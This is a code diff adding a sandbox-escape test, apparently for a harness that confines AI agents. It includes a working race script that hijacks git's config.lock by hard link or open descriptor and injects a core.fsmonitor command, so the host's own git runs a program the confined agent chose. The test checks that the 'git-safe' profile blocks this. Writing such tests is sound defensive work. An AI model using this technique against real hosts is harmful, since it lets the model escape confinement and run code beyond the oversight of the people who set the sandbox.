@@ -2,6 +2,7 @@
 
 import os
 import threading
+import time
 
 import harness
 from harness import DENIED
@@ -28,6 +29,38 @@ for name, way in ways.items():
         print("ACT", name, "ok" if text == "secret" else "EMPTY", text)
     except OSError as error:
         print("ACT", name, errno.errorcode[error.errno])
+"""
+# Tries to own the file that a program of the host writes and then renames over a guarded name: by a second name, by a
+# descriptor, by making it first. What it owns it changes when the host is done.
+OWNER = """
+import os, sys, time
+name, guarded, text = sys.argv[1:]
+open("ready", "w").close()
+held = []
+def descriptor():
+    held.append(os.open(name, os.O_WRONLY | os.O_APPEND))
+def link():
+    if os.path.exists("second"): os.unlink("second")
+    os.link(name, "second")
+    held.append(os.open("second", os.O_WRONLY | os.O_APPEND))
+def is_guarded(fd):
+    return os.fstat(fd).st_ino == os.stat(guarded).st_ino
+def attempt(way):
+    try:
+        way()
+    except OSError:
+        return False
+    deadline = time.monotonic() + 0.01
+    while time.monotonic() < deadline and not is_guarded(held[-1]): pass
+    return is_guarded(held[-1])
+owned = False
+while not owned and not os.path.exists("go") and len(held) < 500:
+    owned = attempt(link) or attempt(descriptor)
+if owned:
+    os.write(held[-1], text.encode())
+    open("got", "w").close()
+while not os.path.exists("go"): time.sleep(0.005)
+print("owned", owned, "held", len(held))
 """
 
 # What a profile says → how they are, where something is denied that the view shows.
@@ -100,3 +133,36 @@ class Meanwhile(harness.Case):
         self.assertRegex(said.text, r"^deny: read .*/\.env\n  label: broker\n")
         plan = self.scratch.agent_run("explain", "-p", self.scratch.profile_file)
         self.assertRegex(plan.text, r"(?m)^reads: claimed$")
+
+    def host_git(self, *words):
+        return self.control("git", *words)
+
+    def own_lock(self, run):
+        """The host sets something in the repository's settings, again and again, while the agent tries to own the new file."""
+        harness.run(["rm", "-rf", ".git", "second", "got"], cwd=self.ws)
+        mark = self.scratch.base / "mark"
+        mark.unlink(missing_ok=True)
+        self.host_git("init", "-q", ".")
+        (self.ws / "got").unlink(missing_ok=True)
+
+        def act():
+            for number in range(300 if run == self.control else 25):
+                self.host_git("config", "user.name", f"N{number}")
+                time.sleep(0.02)
+                if (self.ws / "got").exists():
+                    break
+        result = self.during(run, ("/usr/bin/python3", "-c", OWNER, ".git/config.lock", ".git/config", f"[core]\n\tfsmonitor = touch {mark}; false\n"), act)
+        self.host_git("status")
+        return result, mark.exists()
+
+    def test_f3_lock_of_settings(self):
+        """git writes its settings to config.lock and renames that over config: whoever owns the one owns the other."""
+        result, fired = self.own_lock(self.control)
+        self.assertTrue(fired, f"proves nothing: {result}")
+        self.scratch.write_profile(extends=["debian", "git-safe"])
+        run, fired = self.own_lock(self.inside)
+        self.assertFalse(fired, f"git executed the agent's program: {run}")
+        self.assertEqual(run.text, "owned False held 0\n", str(run))
+        self.assertFalse((self.ws / "second").exists())
+        self.assertTrue(run.decisions(act="deny", path=str(self.ws / ".git/config.lock"), profile="git-safe"))
+        self.assertEqual(harness.run(["git", "config", "user.name"], cwd=self.ws).text, "N24\n", "the host's git was hindered")
